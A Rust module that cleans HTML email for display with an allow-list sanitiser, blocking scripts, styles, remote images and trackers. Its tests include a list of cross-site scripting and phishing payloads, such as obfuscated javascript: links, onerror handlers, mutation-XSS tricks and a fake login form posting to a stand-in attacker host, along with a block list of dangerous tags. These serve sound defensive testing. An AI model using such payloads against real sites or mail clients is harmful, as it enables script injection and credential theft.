//! A mail's HTML, cleaned for showing: words, lists, tables and links by an allow-list; nothing that runs, nothing that is
//! fetched. It is shown in a sandboxed frame all the same.

use std::borrow::Cow;
use std::collections::HashMap;

use ammonia::{Builder, UrlRelative};

use super::html::nesting;

/// HTML above this, or nested deeper, isn't cleaned, which takes time by depth × size; its text form is there.
const HTML_BYTES: usize = 2 * 1024 * 1024;
const HTML_DEPTH: usize = 200;

/// Cleans; `pictures` are the addresses of the mail's own pictures by their Content-ID. `None` if the page is too big or too
/// deep.
pub fn clean(html: &str, pictures: HashMap<String, String>) -> Option<String> {
    if html.len() > HTML_BYTES || nesting(html) > HTML_DEPTH {
        return None;
    }
    let html = html.replace('\0', "");
    let mut builder = Builder::default();
    builder
        // A link says nothing of where it was found.
        .link_rel(Some("noopener noreferrer nofollow"))
        .url_schemes(["http", "https", "mailto", "tel", "cid", "data"].into())
        .url_relative(UrlRelative::Deny)
        .rm_tags(["map", "area"])
        .clean_content_tags(["script", "style", "title", "svg", "math", "template"].into())
        .attribute_filter(move |element, attribute, value| {
            attributed(&pictures, element, attribute, value)
        });
    Some(builder.clean(&html).to_string())
}

fn attributed<'v>(
    pictures: &HashMap<String, String>,
    element: &str,
    attribute: &str,
    value: &'v str,
) -> Option<Cow<'v, str>> {
    match (element, attribute) {
        // Only pictures of the mail itself: any other one tells its owner who read the mail, and when.
        ("img", "src") => {
            let id = value.trim().strip_prefix("cid:")?;
            let found = pictures.get(id.trim_matches(['<', '>']))?;
            Some(Cow::Owned(found.clone()))
        }
        (_, "href") => {
            let scheme = value
                .trim()
                .split(':')
                .next()
                .unwrap_or_default()
                .to_lowercase();
            matches!(scheme.as_str(), "http" | "https" | "mailto" | "tel")
                .then_some(Cow::Borrowed(value))
        }
        (_, "cite" | "src" | "background") => None,
        _ => Some(Cow::Borrowed(value)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cleaned(html: &str) -> String {
        let logo = "data:image/png;base64,AAEC".to_owned();
        clean(html, HashMap::from([("logo@x".to_owned(), logo)])).unwrap()
    }

    #[test]
    fn e76_nothing_runs_and_nothing_is_styled() {
        for html in [
            "<script>alert(1)</script>",
            "<style>p{background:url(http://evil.example/)}</style>",
            "<p onclick=alert(1) style='background:url(http://evil.example/)'>x</p>",
            "<a href='java\tscript:alert(1)'>x</a>",
            "<a href='&#106;avascript:alert(1)'>x</a>",
            "<a href=' javascript:alert(1)'>x</a>",
            "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
            "<svg><script>alert(1)</script><p>x</p></svg>",
            "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
            "<form action=http://evil.example/><input name=password><button>Log in</button></form>",
            "<base href=http://evil.example/><a href=x>y</a>",
            "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
            "<iframe src=http://evil.example/></iframe><object data=x></object><embed src=x>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
            "<img src=x onerror=alert(1)>",
            "<link rel=stylesheet href=http://evil.example/>",
            "<table background=http://evil.example/><tr><td>x</td></tr></table>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
        ] {
            let clean = cleaned(html).to_lowercase();
            for bad in [
                "<script",
                "javascript:",
                "onclick",
                "onerror=\"",
                "style",
                "<form",
                "<input",
                "<base",
                "<meta",
                "<iframe",
                "<object",
                "<embed",
                "<svg",
                "<math",
                "<link",
                "evil.example",
                "data:",
            ] {
                assert!(!clean.contains(bad), "{html} -> {clean}");
            }
        }
    }

    #[test]
    fn e76_what_people_write_stays() {
        let html = "<!--[if mso]>Office<![endif]--><div><p>Hi <b>all</b></p><ul><li>one</li></ul><table><tr><td>a</td></tr></table><a href='https://x.example/'>link</a> <a href='mailto:a b@@x'>mail</a></div><![if !mso]>Seen<![endif]>";
        let clean = cleaned(html);
        for part in [
            "<b>all</b>",
            "<li>one</li>",
            "<td>a</td>",
            "href=\"https://x.example/\"",
            "noreferrer",
            "mail</a>",
            "Seen",
        ] {
            assert!(clean.contains(part), "{part}: {clean}");
        }
    }

    #[test]
    fn e77_no_picture_is_fetched_and_the_mails_own_are_shown() {
        let html = "<img src=http://track.example/a.gif width=1><img src='//track.example/b'><img src=cid:other><img src='CID:x'><img src='cid:logo@x' alt=Logo>";
        let clean = cleaned(html);
        assert!(!clean.contains("track.example"), "{clean}");
        assert_eq!(clean.matches("src=").count(), 1, "{clean}");
        assert!(
            clean.contains("src=\"data:image/png;base64,AAEC\""),
            "{clean}"
        );
    }

    #[test]
    fn e75_a_page_too_deep_or_too_big_is_not_cleaned() {
        assert_eq!(clean(&"<div>".repeat(100_000), HashMap::new()), None);
        assert_eq!(clean(&"x".repeat(HTML_BYTES + 1), HashMap::new()), None);
        assert!(clean(&"line<br>".repeat(5_000), HashMap::new()).is_some());
        assert!(
            clean(
                &"<a href=http://x.example/>x</a>".repeat(20_000),
                HashMap::new()
            )
            .is_some()
        );
    }
}
